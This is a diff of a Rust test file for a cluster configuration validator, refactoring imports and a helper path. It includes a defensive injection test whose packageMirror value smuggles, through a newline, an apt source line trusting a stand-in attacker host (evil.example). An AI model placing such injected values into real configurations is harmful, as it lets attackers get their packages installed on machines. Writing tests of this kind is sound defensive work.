@@ -3,8 +3,7 @@
 //! what is wrong, in JSON and in text. Each case is the valid BASE config with one edit; the
 //! table is shared with the library's own test of every rule.
 
-use crate::support::needs;
-use crate::support::{run, write_config};
+use crate::support::{needs, run, write_config};
 
 include!("../../crates/hacluster-config/tests/cases/invalid.rs");
 
@@ -145,7 +144,7 @@ fn aws_endpoints_on_this_machine_are_valid() {
 #[test]
 fn an_injection_attempt_changes_nothing() {
     needs!(Plugins);
-    let s = crate::plugins::Scratch::new();
+    let s = crate::support::Scratch::new();
     let text = BASE.replace(
         "  version: v1.35.0\n",
         "  version: v1.35.0\n  packageMirror: \"http://mirror.example.com/k8s\\ndeb [trusted=yes] http://evil.example/ /\"\n",
